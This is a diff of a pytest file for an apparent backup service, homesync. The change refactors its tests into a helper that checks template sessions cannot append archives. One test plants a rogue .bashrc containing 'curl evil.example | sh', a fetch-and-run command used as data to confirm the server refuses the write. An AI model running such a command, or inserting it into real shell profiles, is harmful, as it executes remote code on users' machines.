@@ -32,6 +32,22 @@ def template_home(homesync_server):
     remove(base)
 
 
+def _append_with_a_template_grant(server, user: str, name: str, source, tmp_path) -> None:
+    """As user, take a template grant for the template name with a one-off key, and with
+    it try to append an archive of source (dated 2030) to the template's repository."""
+    one_off = transport.new_key()
+    one_off.save(tmp_path / "key")
+    with transport.Session.connect(server.address, server.fingerprint, user, password=PASSWORDS[user]) as session:
+        grant = session.rpc().call("template.grant", name=name, public_key=transport.public_key_line(one_off.pkey))
+    template_id = grant["template"]["id"]
+    environment = borg.BorgEnvironment(base_dir=tmp_path / "borg", rsh=shim.rsh_command(), extra={
+        shim.ENV_FINGERPRINT: server.fingerprint, shim.ENV_KEY_FILE: str(tmp_path / "key")})
+    host, port = server.address.rsplit(":", 1)
+    argv = borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
+                                    "2030-01-01T00:00:00.000Z", excludes=(), progress=False)
+    borg.run_borg(argv, environment, grant["passphrase"], cwd=str(source), timeout=60)
+
+
 def _restore(computer: Computer, server, *extra: str, user: str = "joe"):
     return computer.run("restore", *extra, *computer.remote_args(server, user), input=PASSWORDS[user] + "\n")
 
@@ -134,23 +150,11 @@ def test_a_template_session_cannot_write_to_a_template_of_10_mb_or_more(homesync
     chown_tree(base)
     homesync_server.cli_json("template", "publish", "Big Lab", "--from", str(base / "home"))
     remove(base)
-    one_off = transport.new_key()
-    one_off.save(tmp_path / "key")
-    with transport.Session.connect(homesync_server.address, homesync_server.fingerprint, "joe",
-                                   password=PASSWORDS["joe"]) as session:
-        grant = session.rpc().call("template.grant", name="Big Lab",
-                                   public_key=transport.public_key_line(one_off.pkey))
-    template_id = grant["template"]["id"]
-    environment = borg.BorgEnvironment(base_dir=tmp_path / "borg", rsh=shim.rsh_command(), extra={
-        shim.ENV_FINGERPRINT: homesync_server.fingerprint, shim.ENV_KEY_FILE: str(tmp_path / "key")})
-    host, port = homesync_server.address.rsplit(":", 1)
     rogue = tmp_path / "rogue"
     rogue.mkdir()
     (rogue / ".bashrc").write_text("curl evil.example | sh\n")
-    argv = borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
-                                    "2030-01-01T00:00:00.000Z", excludes=(), progress=False)
     with pytest.raises(BorgError, match="homesync refused"):  # the RPC filter, before the quota
-        borg.run_borg(argv, environment, grant["passphrase"], cwd=str(rogue), timeout=60)
+        _append_with_a_template_grant(homesync_server, "joe", "Big Lab", rogue, tmp_path)
 
 
 def test_reindex_prune_and_drills_leave_templates_alone(fresh_server, computer_factory):
@@ -176,23 +180,12 @@ def test_reindex_prune_and_drills_leave_templates_alone(fresh_server, computer_f
 
 def test_an_archive_a_user_appends_to_a_small_template_is_never_restored(homesync_server, template_home,
                                                                          computer_factory, tmp_path):
-    one_off = transport.new_key()
-    one_off.save(tmp_path / "key")
-    with transport.Session.connect(homesync_server.address, homesync_server.fingerprint, "ann",
-                                   password=PASSWORDS["ann"]) as session:
-        grant = session.rpc().call("template.grant", name=NAME, public_key=transport.public_key_line(one_off.pkey))
-    template_id = grant["template"]["id"]
-    environment = borg.BorgEnvironment(base_dir=tmp_path / "borg", rsh=shim.rsh_command(), extra={
-        shim.ENV_FINGERPRINT: homesync_server.fingerprint, shim.ENV_KEY_FILE: str(tmp_path / "key")})
-    host, port = homesync_server.address.rsplit(":", 1)
     rogue = tmp_path / "rogue"
     rogue.mkdir()
     (rogue / "rogue.txt").write_text("appended by a user\n")
     # below 10 MB the quota cannot stop it; the RPC filter does (a template session only reads)
     with pytest.raises(BorgError, match="homesync refused"):
-        borg.run_borg(borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
-                                               "2030-01-01T00:00:00.000Z", excludes=(), progress=False),
-                      environment, grant["passphrase"], cwd=str(rogue), timeout=60)
+        _append_with_a_template_grant(homesync_server, "ann", NAME, rogue, tmp_path)
     new = computer_factory()
     done = _restore(new, homesync_server, "--template", NAME, "--json")
     assert done.returncode == 0, done.stderr
